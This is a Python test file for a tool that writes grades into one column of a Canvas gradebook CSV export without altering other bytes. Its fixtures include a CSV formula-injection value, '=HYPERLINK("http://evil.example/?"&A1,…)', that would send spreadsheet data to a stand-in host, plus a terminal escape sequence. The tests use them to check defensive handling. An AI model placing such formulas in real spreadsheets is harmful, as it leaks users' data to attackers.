"""One column of Canvas' own export is filled; not a byte of the rest changes, and no grade goes to the wrong row."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest
from exported_class import CLASS
from hypothesis import given
from hypothesis import strategies as st

from grader.class_result import Attempt, ClassResult, Grade, Student
from grader.cli.export import canvas_notes
from grader.errors import CannotJudge, UsageError
from grader.export.canvas import fill
from grader.export.csv_splice import Table

COLUMN = "Week 2 (1234)"
# as Canvas writes it: byte order mark, quotes where needed, a row for posting by hand, blanks before Points Possible
GRADEBOOK = (
    "\ufeffStudent,ID,SIS User ID,SIS Login ID,Section,Week 1 (1233),Week 2 (1234),Assignments Current Points\r\n"
    ",,,,,,Manual Posting,(read only)\r\n"
    "    Points Possible,,,,,100,100,(read only)\r\n"
    '"Núñez, ""Ada""",77,1001,ada@school.example,"A, B",98.50,,98.50\r\n'
    '"王, 小明",78,1003,wang,A,=1+1,,\r\n'
    "O'Brien,79,x4,1004,A,,,\r\n"
    "Nobody,80,1005,nobody,A,, ,\r\n"
    '"Pending, At",81,1006,pending,A,,,\r\n'
    '"Stranger, A",82,9999,stranger,A,5,,5\r\n'
    '"Student, Test",83,,abc123,A,,,\r\n'
)


def one(total: float = 90.25, student: str = "1001", **more: object) -> ClassResult:
    """Return a class of one graded student."""
    counted = Attempt(student, 1, "a.zip")
    grade = Grade(Student(student, **more), (counted,), counted, total, total=total)  # type: ignore[arg-type]
    return ClassResult("1", "Week 2", 2, grades=(grade,))


def test_only_the_cells_of_the_column_change() -> None:
    """The bytes are those of the export but for the grades; byte order mark, quotes and line ends stay."""
    filled = fill(GRADEBOOK.encode(), CLASS, COLUMN)
    expected = (
        GRADEBOOK.replace("98.50,,98.50", "98.50,90.25,98.50")
        .replace("A,=1+1,,\r\n", "A,=1+1,50,\r\n")
        .replace("x4,1004,A,,,\r\n", "x4,1004,A,,0,\r\n")
    )
    assert filled.data == expected.encode()
    assert filled.filled == 3
    assert filled.not_in_gradebook == ('=HYPERLINK("http://evil.example/?"&A1,"click") (1002)',)
    assert filled.not_in_class == ("Stranger, A",)
    assert filled.pending == ("@Pending (1006): look",)
    assert (filled.kept, filled.notes) == ((), ())


def test_the_filled_gradebook_is_read_back() -> None:
    """A reader of CSV finds the grade of every student in the column, and nothing in the rows without one."""
    data = fill(GRADEBOOK.encode(), CLASS, COLUMN).data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert {row["Student"]: row[COLUMN] for row in rows} == {
        "": "Manual Posting",
        "    Points Possible": "100",
        'Núñez, "Ada"': "90.25",
        "王, 小明": "50",
        "O'Brien": "0",
        "Nobody": " ",
        "Pending, At": "",
        "Stranger, A": "",
        "Student, Test": "",
    }


def test_staff_are_told_what_did_not_fit() -> None:
    """The notes count and name each group, a line each, without characters that move a cursor."""
    class_ = replace(CLASS, grades=(*CLASS.grades, one(3.0, "77\x1b[2J").grades[0]))
    assert canvas_notes(fill(GRADEBOOK.encode(), class_, COLUMN)) == [
        "3 grades written",
        "2 have a grade, but no certain row in the gradebook:",
        '  =HYPERLINK("http://evil.example/?"&A1,"click") (1002)',
        "  77\\x1b[2J",
        "1 have a row, but are not in the class:",
        "  Stranger, A",
        "1 have a grade that is not final, left as it was:",
        "  @Pending (1006): look",
    ]


@pytest.mark.parametrize(
    ("column", "said"),
    [
        ("Week 2 (1235)", "the gradebook has no column 'Week 2 (1235)'; did you mean 'Week 2 (1234)'?"),
        ("zzz", "the gradebook has no column 'zzz'"),
        ("SIS User ID", "the column 'SIS User ID' says who a student is and cannot hold grades"),
        (
            "Assignments Current Points",
            "the column 'Assignments Current Points' is calculated by Canvas and cannot be filled (it is read only)",
        ),
        ("Week 1 (1233)", "the column 'Week 1 (1233)' already has 3 grades; --overwrite replaces them"),
    ],
)
def test_a_column_that_cannot_be_filled_is_refused(column: str, said: str) -> None:
    """The message names the column, and the nearest one or the way out."""
    with pytest.raises(UsageError) as error:
        fill(GRADEBOOK.encode(), CLASS, column)
    assert str(error.value) == said


def test_overwrite_replaces_what_there_is_a_grade_for() -> None:
    """Old grades of students with a new one go, quoted ones stay quoted, all others stay; excused stays excused."""
    old = GRADEBOOK.replace("98.50,,98.50", '98.50,"1,5",98.50').replace("x4,1004,A,,,", "x4,1004,A,,EX,")
    old = old.replace("nobody,A,, ,", "nobody,A,,7,")
    filled = fill(old.encode(), CLASS, COLUMN, overwrite=True)
    expected = old.replace('"1,5"', '"90.25"').replace("A,=1+1,,\r\n", "A,=1+1,50,\r\n")
    assert filled.data == expected.encode()
    assert filled.kept == ("O'Brien; =1+1 second line (1004)",)


@pytest.mark.parametrize(
    ("student", "email"),
    [("77", ""), ("1001", ""), ("ADA@school.example", ""), ("other", "ada@school.example")],
)
def test_a_student_is_found_by_every_identifier(student: str, email: str) -> None:
    """Canvas' own ID, the SIS user ID, the login in any case, and the address where it is the login."""
    filled = fill(GRADEBOOK.encode(), one(1.0, student, email=email), COLUMN)
    assert filled.data == GRADEBOOK.replace("98.50,,98.50", "98.50,1,98.50").encode()


def test_where_two_rows_or_two_students_fit_nothing_is_written() -> None:
    """One student's ID that is another one's login, and two students on one row, leave the cells as they are."""
    book = GRADEBOOK.replace(",wang,", ",1001,")
    both = fill(book.encode(), replace(CLASS, grades=(CLASS.grades[0], CLASS.grades[3])), COLUMN)
    assert both.data == book.replace("x4,1004,A,,,", "x4,1004,A,,0,").encode()
    assert both.not_in_gradebook == ('Núñez, "Ada" (1001)',)
    claims = replace(CLASS, grades=(*one(1.0, "77").grades, *one(2.0, "1001").grades, CLASS.grades[3]))
    assert fill(GRADEBOOK.encode(), claims, COLUMN).not_in_gradebook == ("77", "1001")


def test_the_test_student_gets_nothing() -> None:
    """Canvas' test student keeps the empty cell, whoever has its login."""
    class_ = replace(CLASS, grades=(*one(5.0, "abc123").grades, CLASS.grades[0]))
    filled = fill(GRADEBOOK.encode(), class_, COLUMN)
    assert filled.data == GRADEBOOK.replace("98.50,,98.50", "98.50,90.25,98.50").encode()
    assert filled.not_in_gradebook == ("abc123",)


def test_a_gradebook_of_another_language() -> None:
    """Semicolons and decimal commas are kept, and the grades are written with them."""
    book = "Student;ID;Section;W (1)\nPoints Possible;;;99,5\nA;77;S;\n"
    filled = fill(book.encode(), one(97.5, "77"), "W (1)")
    assert filled.data == b"Student;ID;Section;W (1)\nPoints Possible;;;99,5\nA;77;S;97,5\n"
    assert filled.notes == ("the column 'W (1)' is out of 99.5 points, the grades are out of 100",)


def test_a_record_that_is_too_short_gets_its_fields() -> None:
    """A spreadsheet that left out the empty fields at the end of a line costs nobody a grade."""
    book = "Student,ID,X (1),W (2)\n    Points Possible,,1,100\nA,77\nB,78,,"
    assert fill(book.encode(), one(5.0, "77"), "W (2)").data == book.replace("A,77", "A,77,,5").encode()


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "the gradebook has no header with the columns ID, Student"),
        (b"name,grade\na,1\n", "the gradebook has no header with the columns ID, Student"),
        (
            "Student,ID,W\n".encode("utf-16"),
            "the gradebook is not text in UTF-8; export it anew, and do not save it",
        ),
        (b'Student,ID,W\nA,"77\n', "line 2 opens a quote that is never closed"),
        (b"Student,ID,W,W\nA,77,,\n", "the gradebook has 2 columns with the name 'W'; rename one in Canvas"),
        (
            b"Student,ID,W\nA,99,\n",
            "none of the 1 students with a grade is in the gradebook by ID, SIS User ID or SIS",
        ),
    ],
)
def test_what_is_no_gradebook_is_refused(data: bytes, said: str) -> None:
    """Each kind of wrong file is one sentence."""
    with pytest.raises(UsageError) as error:
        fill(data, one(), "W")
    assert str(error.value).startswith(said)


@pytest.mark.parametrize("total", [float("nan"), float("inf"), -1.0])
def test_a_total_that_is_none_is_never_written(total: float) -> None:
    """A mistake of ours does not get into a gradebook."""
    with pytest.raises(CannotJudge, match="which no gradebook can hold"):
        fill(GRADEBOOK.encode(), one(total), COLUMN)


def test_single_byte_names_survive() -> None:
    """An export that a spreadsheet saved in Latin-1 comes back with the same bytes."""
    book = "Student,ID,W\nNúñez,77,\n".encode("latin-1")
    assert fill(book, one(5.0, "77"), "W").data == book.replace(b"77,", b"77,5")


CELLS = st.text(st.sampled_from('ab ",;\n=é\t'), max_size=6)


@given(
    st.lists(st.lists(CELLS, min_size=3, max_size=5), max_size=6),
    st.sampled_from(["\n", "\r\n"]),
    st.booleans(),
)
def test_the_reader_agrees_with_pythons(rows: list[list[str]], end: str, quote_all: bool) -> None:
    """Whatever Python's writer writes is read as the same fields, and spliced with nothing it is the same bytes."""
    out = io.StringIO()
    quoting = csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL
    csv.writer(out, quoting=quoting, lineterminator=end).writerows([["Student", "ID", "W"], *rows])
    data = out.getvalue().encode()
    table = Table.parse(data, frozenset({"Student", "ID"}), "it")
    assert [[field.text for field in record] for record in table.records[1:]] == rows
    assert table.spliced({}) == data
    changed = Table.parse(table.spliced({(len(rows), 2): 'x"\n'}), frozenset({"Student"}), "it")
    rows = [["Student", "ID", "W"], *rows]
    rows[-1][2] = 'x"\n'
    assert [[field.text for field in record] for record in changed.records] == rows
